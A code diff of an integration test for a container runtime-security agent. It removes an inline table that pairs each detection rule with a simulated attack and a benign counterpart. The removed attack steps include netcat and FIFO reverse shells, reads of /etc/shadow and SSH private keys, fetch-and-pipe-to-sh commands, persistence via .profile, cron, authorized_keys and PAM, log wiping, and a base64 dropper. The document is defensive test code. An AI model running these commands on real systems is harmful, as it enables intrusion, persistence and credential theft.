@@ -1,9 +1,8 @@
 /**
- * Every built-in rule against the real kernel and a real Docker container: its attack, run in
- * an "attacker" container, raises its alert naming that container; a benign use of the same
- * tools, run in a "neighbour" container, raises no alert at all. The attacks come from busybox
- * and the image's eunomia-attack tool (test/attack/eunomia-attack.c); the agent runs the
- * trackers the rules need, as `eunomia safe` does.
+ * Every built-in rule against the real kernel and a real Docker container: its attack (the
+ * cases are in ./cases.ts), run in an "attacker" container, raises its alert naming that
+ * container; a benign use of the same tools, run in a "neighbour" container, raises no alert
+ * at all. The agent runs the trackers the rules need, as `eunomia safe` does.
  */
 import assert from 'node:assert/strict';
 import { rmSync } from 'node:fs';
@@ -17,128 +16,7 @@ import { Agent } from '../../src/server/agent.js';
 import { defaultConfig } from '../../src/server/config.js';
 import { TEST_IMAGE, dockerAsync, needsDocker, removeContainers, uniqueName } from '../docker.js';
 import { waitFor } from '../helpers.js';
-
-/** A command: `docker exec` (with a terminal if `tty`) in the case's container, or a new container from `docker run` flags (running `cmd`, default `true`). */
-type Step = { exec: string[]; tty?: boolean } | { run: string[]; cmd?: string[] };
-const sh = (script: string): Step => ({ exec: ['sh', '-c', `${script}; true`] });
-const x = (...args: string[]): Step => ({ exec: args });
-
-/**
- * A 129-byte static ELF that exits 0 (x86-64; arm64 on arm64), in base64: a payload small
- * enough to carry on a command line and decode at run time, as droppers do.
- */
-function tinyElf(): string {
-  const code = Buffer.from(process.arch === 'arm64' ? '000080d2a80b80d2010000d4' : 'b83c00000031ff0f05', 'hex'); // exit(0)
-  const b = Buffer.alloc(120 + code.length); // ELF header (64) + one program header (56) + code
-  const base = 0x400000n;
-  Buffer.from('7f454c46020101', 'hex').copy(b, 0); // ELF, 64-bit, little-endian, version 1
-  b.writeUInt16LE(2, 16); // ET_EXEC
-  b.writeUInt16LE(process.arch === 'arm64' ? 183 : 62, 18);
-  b.writeUInt32LE(1, 20);
-  b.writeBigUInt64LE(base + 120n, 24); // entry: the code
-  b.writeBigUInt64LE(64n, 32); // program headers right after this header
-  b.writeUInt16LE(64, 52);
-  b.writeUInt16LE(56, 54);
-  b.writeUInt16LE(1, 56);
-  b.writeUInt32LE(1, 64); // PT_LOAD the whole file, R+X
-  b.writeUInt32LE(5, 68);
-  b.writeBigUInt64LE(base, 80);
-  b.writeBigUInt64LE(base, 88);
-  b.writeBigUInt64LE(BigInt(b.length), 96);
-  b.writeBigUInt64LE(BigInt(b.length), 104);
-  b.writeBigUInt64LE(0x1000n, 112);
-  code.copy(b, 120);
-  return b.toString('base64');
-}
-
-/** rule → [attack, benign neighbour]. */
-const CASES: Record<string, [Step, Step]> = {
-  insert_bpf: [x('eunomia-attack', 'bpf-load'), x('cat', '/proc/sys/kernel/unprivileged_bpf_disabled')],
-  anti_debugging: [x('eunomia-attack', 'traceme'), x('cat', '/proc/self/status')],
-  ptrace_attach: [x('eunomia-attack', 'ptrace-attach'), x('kill', '-0', '1')],
-  shell_in_container: [{ exec: ['sh', '-c', 'echo interactive'], tty: true }, x('sh', '-c', 'echo scripted')],
-  sensitive_file_read: [x('cat', '/etc/shadow'), x('cat', '/etc/passwd')],
-  write_below_etc: [sh('echo x > /etc/evil.conf'), sh('echo x > /tmp/ok.conf')],
-  write_below_binary_dir: [x('cp', '/bin/busybox', '/usr/bin/evil'), x('cp', '/bin/busybox', '/tmp/bb')],
-  release_agent_write: [sh('echo /x > /sys/fs/cgroup/release_agent'), sh('cat /sys/fs/cgroup/cgroup.procs > /dev/null')],
-  // Also where the kernel has no module or kexec support (ENOSYS, no syscalls: tracepoint):
-  // secsnoop then sees the attempt through raw_syscalls.
-  kernel_module_load: [x('eunomia-attack', 'finit-module'), x('cat', '/proc/modules')],
-  mount_in_container: [sh('mount -t tmpfs none /mnt'), x('mount')],
-  namespace_change_in_container: [sh('unshare -n true'), x('ls', '/proc/self/ns')],
-  memfd_exec: [x('eunomia-attack', 'memfd-exec'), x('eunomia-attack', 'memfd')],
-  dev_shm_exec: [sh('cp /bin/busybox /dev/shm/bb && /dev/shm/bb true'), sh('cp /bin/busybox /dev/shm/bb && ls /dev/shm')],
-  netcat_remote_exec: [sh('(echo exit | timeout 3 nc -l -p 4446 &); sleep 0.3; nc 127.0.0.1 4446 -e /bin/sh'), sh('(timeout 2 nc -l -p 4447 > /dev/null &); sleep 0.3; echo hi | timeout 1 nc 127.0.0.1 4447')],
-  package_manager_in_container: [x('dpkg', '-i', '/tmp/tool.deb'), x('dpkg', '-l')],
-  network_tool_in_container: [x('nmap', '-sS', '10.0.0.0/24'), x('nmap', '--version')],
-  runtime_socket_access: [x('eunomia-attack', 'unix-connect', '/var/run/docker.sock'), x('eunomia-attack', 'unix-connect', '/tmp/app.sock')],
-  // 3 s: with 1 s, one CI run (a loaded machine) got no alert, most likely nc ended before its
-  // connect(); an attempt cut off before the SYN leaves no event to see.
-  cloud_metadata_contacted: [x('timeout', '3', 'nc', '169.254.169.254', '80'), x('timeout', '1', 'nc', '127.0.0.1', '80')],
-  // With no network: one connect with no route (fails before any packet: secsnoop) and one
-  // refused (its SYN answered by a reset: tcpconnect). Benign: the same to an ordinary port.
-  miner_pool_port: [
-    { run: ['--network', 'none'], cmd: ['sh', '-c', 'nc 10.255.255.1 3333; timeout 1 nc 127.0.0.1 3333; true'] },
-    { run: ['--network', 'none'], cmd: ['sh', '-c', 'nc 10.255.255.1 8080; timeout 1 nc 127.0.0.1 8080; true'] },
-  ],
-  shell_history_cleared: [sh(': > /root/.ash_history'), sh('echo ls >> /root/.ash_history')],
-  ssh_key_search: [x('find', '/root', '-name', 'id_rsa'), x('find', '/etc', '-name', 'hostname')],
-  ld_preload_tamper: [sh('echo /tmp/x.so > /etc/ld.so.preload'), sh('cat /etc/ld.so.preload')],
-  // The attempt is the signal: no library needs to exist (busybox is static and ignores them).
-  // `true` alone would be busybox sh's builtin, with no exec to see.
-  ld_preload_env: [sh('LD_PRELOAD=/tmp/x.so /bin/true; env LD_LIBRARY_PATH=/tmp/lib ls /'), sh('env LD_LIBRARY_PATH=/usr/lib ls /; LD_PRELOAD=libjemalloc.so.2 /bin/true; /bin/true')],
-  private_key_read: [x('cat', '/root/.ssh/id_ed25519'), x('cat', '/root/.ssh/id_ed25519.pub')],
-  // Both containers have a tmpfs /tmp (see `before`): a binary copied into the overlayfs upper
-  // layer, and a payload decoded at run time onto the tmpfs; benign: image binaries run, and
-  // files written and processed in /tmp.
-  container_drift: [
-    sh(`cp /bin/busybox /root/dropped && /root/dropped true; echo ${tinyElf()} | base64 -d > /tmp/p; chmod +x /tmp/p; /tmp/p`),
-    sh('echo aGkK | base64 -d > /tmp/data; sort /tmp/data > /tmp/sorted; /bin/busybox true'),
-  ],
-  packet_socket_in_container: [x('eunomia-attack', 'packet-socket'), x('ping', '-c', '1', '127.0.0.1')],
-  reverse_shell: [x('eunomia-attack', 'revshell'), x('eunomia-attack', 'unixshell')],
-  // Both classic shapes, each against its own listener in the container that sends "exit"; the
-  // shell's stdio are pipes, the FIFO is on nc's stdout (and on the second shell's stdin).
-  // Benign: a FIFO read by cat, and a shell reading data (not its commands: that is
-  // shell_script_from_pipe) from an ordinary pipe.
-  reverse_shell_fifo: [
-    sh(
-      '(echo exit | timeout 3 nc -l -p 4450 > /dev/null &); (echo exit | timeout 3 nc -l -p 4451 > /dev/null &); sleep 0.3; rm -f /tmp/f /tmp/g; mkfifo /tmp/f /tmp/g; ' +
-        '(cat /tmp/f | sh -i 2>&1 | timeout 2 nc 127.0.0.1 4450 > /tmp/f &); sh -i < /tmp/g 2>&1 | timeout 2 nc 127.0.0.1 4451 > /tmp/g; wait',
-    ),
-    sh("rm -f /tmp/q; mkfifo /tmp/q; (echo hi > /tmp/q &); cat < /tmp/q; echo id | sh -c 'read c; echo $c'"),
-  ],
-  stdio_socket_redirect: [x('eunomia-attack', 'revshell'), x('eunomia-attack', 'unixshell')],
-  privileged_container_started: [{ run: ['--cap-add', 'SYS_ADMIN'] }, { run: [] }],
-  excessively_capable_container: [{ run: ['--cap-add', 'SYS_PTRACE'] }, { run: ['--cap-drop', 'NET_RAW'] }],
-  sensitive_host_mount: [{ run: ['-v', '/etc:/host-etc:ro'] }, { run: ['-v', `/tmp/eunomia-data-${process.pid}:/data`] }],
-  setuid_bit_set: [sh('touch /tmp/s && chmod u+s /tmp/s'), sh('touch /tmp/s && chmod 755 /tmp/s')],
-  userfaultfd_in_container: [x('eunomia-attack', 'userfaultfd'), x('eunomia-attack', 'eventfd')],
-  kexec_load: [x('eunomia-attack', 'kexec'), x('cat', '/proc/sys/kernel/kexec_load_disabled')],
-  user_management_in_container: [x('passwd', '-d', 'root'), x('passwd', '--help')],
-  // 10.255.255.1: an address outside the container and this host, unreachable (the attempt is the signal)
-  remote_copy_tool_in_container: [x('wget', '-q', '-T', '1', 'http://10.255.255.1/tool', '-O', '/tmp/tool'), x('wget', '-q', '-T', '1', '-O', '-', 'http://10.255.255.1/page')],
-  shell_script_from_pipe: [sh('wget -q -T 1 -O - http://10.255.255.1/x.sh | sh'), sh('echo hi | sh -c cat')],
-  cluster_admin_tool_in_container: [x('kubectl', 'get', 'secrets'), x('kubectl', '--version')],
-  proc_environ_read: [x('cat', '/proc/1/environ'), x('cat', '/proc/self/environ')],
-  kernel_hook_write: [sh('echo "|/tmp/x" > /proc/sys/kernel/core_pattern'), x('cat', '/proc/sys/kernel/core_pattern')],
-  raw_memory_device_opened: [x('cat', '/dev/mem'), x('cat', '/dev/null')],
-  log_cleared: [sh(': > /var/log/messages'), sh('echo x >> /var/log/messages')],
-  // After log_cleared (which needs /var/log/messages). Benign: a rotation as a script does it.
-  log_file_deleted: [
-    sh('rm -rf /var/log/*'),
-    sh('touch /var/log/app.log /var/log/app.log.2.gz; mv /var/log/app.log /var/log/app.log.1; rm /var/log/app.log.2.gz'),
-  ],
-  secure_delete_tool: [sh('echo x >> /var/log/messages; shred -u /var/log/messages'), sh('echo x > /tmp/x; rm /tmp/x; shred --help')],
-  sensitive_file_link: [sh('ln -s /etc/shadow /tmp/s; ln /etc/shadow /root/h'), sh('ln -s /etc/hostname /tmp/h')],
-  shell_config_modified: [sh('echo "wget -qO- x | sh" >> /root/.profile'), x('cat', '/root/.profile')],
-  ssh_authorized_keys_modified: [sh('echo "ssh-ed25519 AAAA attacker" >> /root/.ssh/authorized_keys'), x('cat', '/root/.ssh/id_ed25519.pub')],
-  cron_modified: [sh('echo "* * * * * /tmp/x" > /var/spool/cron/crontabs/root'), x('crontab', '-l')],
-  path_traversal_read: [x('cat', '/tmp/../../etc/passwd'), x('cat', '/etc/passwd')],
-  credential_search: [x('grep', '-r', 'password', '/etc'), x('grep', 'root', '/etc/passwd')],
-  pam_config_modified: [sh('echo "auth sufficient pam_permit.so" > /etc/pam.d/other'), x('ls', '/etc/pam.d')],
-  dev_file_created: [sh('echo x > /dev/.hidden'), sh('echo x > /dev/null')],
-};
+import { ATTACKER_FLAGS, CASES, CONTAINER_FLAGS, perform as performStep, type Step } from './cases.js';
 
 describe('built-in rules against real containers', { skip: needsDocker }, () => {
   let agent: Agent;
@@ -148,14 +26,8 @@ describe('built-in rules against real containers', { skip: needsDocker }, () => 
   const events: TrackerEvent[] = [];
 
   before(async () => {
-    // No seccomp filter, as Kubernetes runs pods unless told otherwise: a call the filter
-    // refuses never reaches the tracepoints (Docker's default profile refuses bpf, mount,
-    // unshare, setns, userfaultfd …). /dev/shm executable (Docker mounts it noexec), /tmp an
-    // executable tmpfs (as `--tmpfs /tmp` and memory-backed volumes make it), and the host's
-    // Docker socket to reach.
-    const common = ['run', '-d', '--security-opt', 'seccomp=unconfined', '--tmpfs', '/dev/shm:rw,exec,size=16m', '--tmpfs', '/tmp:rw,exec,size=16m'];
-    await dockerAsync(...common, '--name', attacker, '-v', '/var/run/docker.sock:/var/run/docker.sock', TEST_IMAGE, 'sleep', '3600');
-    await dockerAsync(...common, '--name', neighbour, TEST_IMAGE, 'sleep', '3600');
+    await dockerAsync('run', '-d', ...ATTACKER_FLAGS, '--name', attacker, TEST_IMAGE, 'sleep', '3600');
+    await dockerAsync('run', '-d', ...CONTAINER_FLAGS, '--name', neighbour, TEST_IMAGE, 'sleep', '3600');
     const config = safeConfig(defaultConfig());
     config.rules.burst = 10_000; // every alert, not a throttled few
     agent = await Agent.start(config, { native: loadNative(), log: () => {} });
@@ -172,16 +44,7 @@ describe('built-in rules against real containers', { skip: needsDocker }, () => 
     rmSync(`/tmp/eunomia-data-${process.pid}`, { recursive: true, force: true }); // the benign bind mount's source
   });
 
-  async function perform(step: Step, container: string, label: string): Promise<string> {
-    if ('exec' in step) {
-      await dockerAsync('exec', ...(step.tty ? ['-t'] : []), container, ...step.exec).catch(() => {}); // attacks may fail: the attempt is what counts
-      return container;
-    }
-    const name = uniqueName(label);
-    runs.push(name);
-    await dockerAsync('run', '--name', name, ...step.run, TEST_IMAGE, ...(step.cmd ?? ['true']));
-    return name;
-  }
+  const perform = (step: Step, container: string, label: string): Promise<string> => performStep(step, container, label, runs);
 
   const fromContainer = (name: string): Alert[] => agent.analyzer!.recent().filter((a) => a.container?.name === name);
 
